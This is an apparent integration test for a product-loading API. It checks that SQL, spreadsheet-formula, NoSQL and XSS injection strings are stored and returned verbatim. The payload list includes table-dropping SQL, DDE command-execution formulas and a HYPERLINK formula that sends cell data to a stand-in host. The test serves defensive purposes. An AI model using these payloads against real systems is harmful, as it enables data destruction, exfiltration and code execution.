import { describe, expect, layer } from "@effect/vitest"
import { sampleProduct } from "@retail/testkit"
import { Effect } from "effect"
import { SqlClient } from "effect/sql"
import { eventually, postJson, request } from "../support/Http.ts"
import { type LoadBody, loadView } from "../support/Loads.ts"
import { fileOf, formData } from "../support/Multipart.ts"
import { mintToken, TestServer } from "../support/TestServer.ts"
import { asStored, STORED_DOCUMENT } from "../support/StoredProducts.ts"

const run = crypto.randomUUID().slice(0, 8).toUpperCase()

const payloads = [
  "'; DROP TABLE products; --",
  "Robert'); DELETE FROM loads WHERE ''='",
  "1' OR '1'='1",
  "$$; SELECT pg_sleep(10); $$",
  "\\'; TRUNCATE product_barcodes; --",
  "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"Click\")",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "{\"$gt\": \"\"}",
  "<img src=x onerror=alert(1)>"
]

/** Every free text of a product carries one payload; codes stay unique per run. */
const hostileProduct = (i: number, payload: string) => {
  const base = sampleProduct(i, { prefix: `INJ${run}-` })
  const productCode = `${base.productCode}${payload}`.slice(0, 100)
  return {
    ...base,
    productCode,
    skuCode: payload,
    eanCode: payload,
    description: payload,
    productType: payload,
    hierarchyCode: payload,
    productPmmStatus: payload,
    barcodes: base.barcodes.map((b) => ({ ...b, productCode, indicator: payload })),
    hierarchies: base.hierarchies.map((h) => ({ ...h, hierarchyName: payload })),
    lstAttributes: base.lstAttributes.map((a) => ({ ...a, productCode, attributeDescription: payload }))
  }
}

describe("SQL and formula injection strings", () => {
  layer(TestServer(), { timeout: 120_000, excludeTestServices: true })((it) => {
    it.effect("are stored verbatim in the columns and the child rows, and come back verbatim, from /load-products and /handle-json", () =>
      Effect.gen(function*() {
        const token = yield* mintToken({ scope: "products:write products:read", company: "ACME" })
        const sql = yield* SqlClient.SqlClient
        const direct = payloads.map((payload, i) => hostileProduct(i, payload))
        const viaFile = payloads.map((payload, i) => hostileProduct(100 + i, payload))
        const loads = [
          (yield* postJson("/v1/load-products", { products: direct }, token)).json() as LoadBody,
          (yield* request("/v1/handle-json", { token, body: formData([["productsJson", fileOf(JSON.stringify(viaFile), "application/json")]]) })).json() as LoadBody
        ]
        for (const load of loads) {
          expect(load.errors).toBeUndefined()
          yield* eventually(loadView(load.processCode, token), (v) => v.status === "COMPLETED")
        }
        for (const product of [...direct, ...viaFile]) {
          const [row] = yield* sql<{ sku_code: string; description: string; hierarchy_code: string; document: unknown }>`
            SELECT p.sku_code, p.description, p.hierarchy_code, ${sql.literal(STORED_DOCUMENT)} AS document
            FROM products p WHERE p.company = 'ACME' AND p.product_code = ${product.productCode}`
          expect(row).toBeDefined()
          const document = typeof row?.document === "string" ? JSON.parse(row.document) as unknown : row?.document
          expect({ sku: row?.sku_code, description: row?.description, hierarchy: row?.hierarchy_code, document }).toEqual({
            sku: product.skuCode,
            description: product.description,
            hierarchy: product.hierarchyCode,
            document: asStored(product)
          })
          const indicators = yield* sql<{ indicator: string }>`
            SELECT indicator FROM product_barcodes WHERE company = 'ACME' AND product_code = ${product.productCode} ORDER BY position`
          expect(indicators.map((b) => b.indicator)).toEqual(product.barcodes.map((b) => b.indicator))
        }
        // The tables the payloads name are all still there.
        const [tables] = yield* sql<{ n: string }>`SELECT count(*) AS n FROM products WHERE company = 'ACME'`
        expect(Number(tables?.n)).toBeGreaterThanOrEqual(payloads.length * 2)
      }))

    it.effect("in a failing product, come back verbatim in the reported errors", () =>
      Effect.gen(function*() {
        const token = yield* mintToken({ scope: "products:write products:read", company: "ACME" })
        const failing = payloads.map((payload, i) => ({ ...hostileProduct(200 + i, payload), hierarchies: [] }))
        const body = (yield* postJson("/v1/load-products", { products: failing }, token)).json() as LoadBody
        expect(body.errors?.map((e) => e.sku)).toEqual(payloads)
        yield* eventually(loadView(body.processCode, token), (v) => v.status === "COMPLETED_WITH_ERRORS")
        const page = (yield* request(`/v1/loads/${body.processCode}/errors?limit=100`, { token })).json() as { errors: ReadonlyArray<{ sku: string }> }
        expect(page.errors.map((e) => e.sku)).toEqual(payloads)
      }))
  })
})
